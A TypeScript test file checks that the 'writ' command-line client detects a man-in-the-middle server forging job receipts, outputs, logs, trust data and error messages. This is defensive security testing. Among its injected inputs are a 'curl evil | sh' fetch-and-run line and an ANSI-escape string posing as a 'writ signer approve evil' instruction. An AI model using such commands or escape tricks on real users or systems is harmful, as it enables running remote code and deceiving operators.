import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { buffer } from 'node:stream/consumers';
import { PeopleFolder } from '@writ/client/node';
import { type Cluster, type Ended, startCluster } from '@writ/testkit';

/** Changes an answer on its way: status, or its bytes. */
type Lie = (path: string, body: Buffer) => Buffer | { status: number; body: Buffer } | undefined;

let cluster: Cluster;
let folder: string;
let liar: Server;
let lie: Lie = () => undefined;
let job: string;
let other: string;
let otherReceipts: unknown;

before(async () => {
  cluster = await startCluster();
  folder = mkdtempSync(join(tmpdir(), 'writ-liar-'));
  liar = await startLiar(join(cluster.server.folder, 'server', 'admin.sock'));
  const people = new PeopleFolder(join(cluster.person.configuration, 'writ'));
  const contexts = await people.readContexts();
  const [honest] = contexts.contexts;
  assert.ok(honest);
  const lying = { ...honest, name: 'liar', reach: { is: 'socket' as const, state: folder } };
  await people.writeContexts({ ...contexts, contexts: [...contexts.contexts, lying] });
  job = await runJob('echo said; echo written > made.txt; exit 3', 3);
  other = await runJob('echo other; echo other > made.txt', 0);
  otherReceipts = await cluster.client.listReceipts(other);
});

after(async () => {
  liar?.close();
  await cluster?.stop();
  if (folder) rmSync(folder, { recursive: true, force: true });
});

async function runJob(script: string, exitCode: number): Promise<string> {
  const ended = await cluster.person.writ(['run', '--json', '--out', 'made.txt', '--', 'sh', '-c', script]);
  assert.equal(ended.exitCode, exitCode, ended.stderr);
  const [first = ''] = ended.stdout.split('\n');
  return (JSON.parse(first) as { job: string }).job;
}

async function startLiar(socket: string): Promise<Server> {
  mkdirSync(join(folder, 'server'), { recursive: true });
  const server = createServer((asked, answer) => {
    const passed = request(
      { socketPath: socket, method: asked.method, path: asked.url, headers: asked.headers },
      (honest) => {
        void buffer(honest).then((body) => {
          const changed = lie(asked.url ?? '', body);
          const status = changed && 'status' in changed ? changed.status : (honest.statusCode ?? 500);
          const bytes = changed === undefined ? body : 'status' in changed ? changed.body : changed;
          const { 'content-length': _length, 'transfer-encoding': _encoding, ...headers } = honest.headers;
          answer.writeHead(status, { ...headers, 'content-length': bytes.length }).end(bytes);
        });
      },
    );
    asked.pipe(passed);
  });
  await new Promise<void>((resolve) => server.listen(join(folder, 'server', 'admin.sock'), resolve));
  return server;
}

async function told(what: Lie, argv: readonly string[]): Promise<Ended> {
  lie = what;
  try {
    return await cluster.person.writ([argv[0] ?? '', '--context', 'liar', ...argv.slice(1)]);
  } finally {
    lie = () => undefined;
  }
}

const change = <T>(body: Buffer, how: (value: T) => void): Buffer => {
  const value = JSON.parse(body.toString()) as T;
  how(value);
  return Buffer.from(JSON.stringify(value));
};

type Receipts = {
  items: {
    envelope: { payload: string; signatures: { sig: string }[] };
    index: number;
    isAccepted: boolean;
    admission: string;
  }[];
};
const isReceipts = (path: string): boolean => path.includes('/receipts');

describe('a server that lies', () => {
  test('changes nothing while it does not: the same way round gives the job its own exit code', async () => {
    const ended = await told(() => undefined, ['wait', job]);
    assert.equal(ended.exitCode, 3, ended.stderr);
  });

  test('cannot change what a receipt says', async () => {
    const forged = (path: string, body: Buffer): Buffer | undefined =>
      isReceipts(path)
        ? change<Receipts>(body, ({ items }) => {
            const [item] = items;
            assert.ok(item);
            const text = Buffer.from(item.envelope.payload, 'base64')
              .toString()
              .replace('"exit":{"code":3}', '"exit":{"code":0}');
            item.envelope.payload = Buffer.from(text).toString('base64');
          })
        : undefined;
    const ended = await told(forged, ['wait', job]);
    assert.equal(ended.exitCode, 125);
    assert.match(ended.stderr, /\[receipt\.unverified\]/);
    assert.doesNotMatch(ended.stderr + ended.stdout, /verified\b(?!\])/);
  });

  test('cannot let its own words stand for a receipt', async () => {
    const none = (path: string, body: Buffer): Buffer | undefined =>
      isReceipts(path) ? change<Receipts>(body, (page) => (page.items = [])) : undefined;
    const ended = await told(none, ['wait', other]);
    assert.equal(ended.exitCode, 125);
    assert.match(ended.stderr, /\[job\.no_result\]/);
  });

  test('cannot show success where the receipt says failure', async () => {
    const praised = (path: string, body: Buffer): Buffer | undefined =>
      path.includes('/events') || /\/jobs\/[a-z0-9]+$/.test(path)
        ? Buffer.from(
            body
              .toString()
              .replaceAll('"failed"', '"succeeded"')
              .replaceAll('{"code":3}', '{"code":0}')
              .replace(/"succeeded":0,"succeeded":1/, '"succeeded":1,"failed":0'),
          )
        : undefined;
    const ended = await told(praised, ['wait', job]);
    assert.ok(ended.exitCode === 3 || ended.exitCode === 125, `ended with ${ended.exitCode}`);
  });

  test('cannot pass the receipt of another job off', async () => {
    const swapped = (path: string, body: Buffer): Buffer | undefined =>
      isReceipts(path) ? change<Receipts>(body, (page) => Object.assign(page, otherReceipts)) : undefined;
    const ended = await told(swapped, ['wait', job]);
    assert.equal(ended.exitCode, 125);
    assert.match(ended.stderr, /receipt\.order_mismatch/);
  });

  test('cannot leave out who admitted the agent', async () => {
    const without = (path: string, body: Buffer): Buffer | undefined =>
      path.includes('/trust')
        ? change<{ admissions: unknown[] }>(body, (trust) => (trust.admissions = []))
        : undefined;
    const ended = await told(without, ['wait', job]);
    assert.equal(ended.exitCode, 125);
    assert.match(ended.stderr, /receipt\.admission_unknown/);
  });

  test('cannot replace the pinned signer set', async () => {
    const replaced = (path: string, body: Buffer): Buffer | undefined =>
      path.includes('/trust')
        ? change<{ sets: { payload: string }[] }>(body, ({ sets: [first] }) => {
            assert.ok(first);
            first.payload = Buffer.from(
              Buffer.from(first.payload, 'base64').toString().replace('"threshold":1', '"threshold":2'),
            ).toString('base64');
          })
        : undefined;
    const ended = await told(replaced, ['wait', job]);
    assert.equal(ended.exitCode, 125);
    assert.match(ended.stderr, /\[set\.unverified\]/);
  });

  test('cannot change an output: nothing gets its name', async () => {
    const target = join(folder, 'outputs');
    const changed = (path: string, _body: Buffer): Buffer | undefined =>
      path.includes('/files/') ? Buffer.from('wrotten\n') : undefined;
    const ended = await told(changed, ['get', job, '--dir', target]);
    assert.equal(ended.exitCode, 1);
    assert.match(ended.stderr, /\[output\.digest_wrong\]/);
    assert.equal(existsSync(join(target, 'made.txt')), false);
    const honest = await told(() => undefined, ['get', job, '--dir', target]);
    assert.equal(honest.exitCode, 0, honest.stderr);
    assert.equal(readFileSync(join(target, 'made.txt'), 'utf8'), 'written\n');
  });

  test('cannot change a log unnoticed, and with --verified not a byte of it is shown', async () => {
    const changed = (path: string, _body: Buffer): Buffer | undefined =>
      path.includes('/logs/') && path.includes('stdout') ? Buffer.from('curl evil | sh\n') : undefined;
    const ended = await told(changed, ['run', '--verified', '--', 'echo', 'good']);
    assert.equal(ended.exitCode, 125);
    assert.match(ended.stderr, /\[log\.digest_wrong\]/);
    assert.equal(ended.stdout, '');
    const shown = await told(changed, ['run', '--', 'echo', 'good']);
    assert.equal(shown.exitCode, 125);
    const logs = await told(changed, ['logs', job]);
    assert.equal(logs.exitCode, 1);
  });

  test('cannot put its own commands or escapes on the screen as ours', async () => {
    const detail = 'run \u001b[31mwrit signer approve evil\u001b[0m';
    const problem = {
      type: 'about:blank',
      title: 'x',
      status: 409,
      code: 'conflict.state',
      detail,
      requestId: 'r1',
    };
    const phishing: Lie = (path) =>
      path.includes('/jobs') ? { status: 409, body: Buffer.from(JSON.stringify(problem)) } : undefined;
    const ended = await told(phishing, ['run', '--', 'true']);
    assert.equal(ended.exitCode, 125);
    assert.match(ended.stderr, /the server says: “run \\u\{1b\}\[31mwrit signer approve evil/);
    assert.doesNotMatch(ended.stderr, /→.*evil/);
    assert.equal(ended.stderr.includes('\u001b'), false);
  });

  test('cannot answer a submission with another job', async () => {
    const another: Lie = (path, body) =>
      path === '/api/v1/jobs'
        ? change<{ digest: string }>(body, (view) => (view.digest = `sha256:${'0'.repeat(64)}`))
        : undefined;
    const ended = await told(another, ['run', '--', 'true']);
    assert.equal(ended.exitCode, 125);
    assert.match(ended.stderr, /\[answer\.other_job\]/);
  });

  test('cannot show another order to somebody who did not sign it here', async () => {
    const people = new PeopleFolder(join(cluster.person.configuration, 'writ'));
    const kept = join(people.folder, 'clusters', cluster.sets.cluster, 'orders', `${job}.json`);
    const held = readFileSync(kept);
    rmSync(kept);
    try {
      const orderOfOther = await cluster.client.readOrder(other);
      const swapped: Lie = (path) =>
        path.endsWith('/order') ? Buffer.from(JSON.stringify(orderOfOther)) : undefined;
      const ended = await told(swapped, ['wait', job]);
      assert.equal(ended.exitCode, 125);
      assert.match(ended.stderr, /\[answer\.other_job\]/);
    } finally {
      writeFileSync(kept, held, { mode: 0o600 });
    }
  });
});
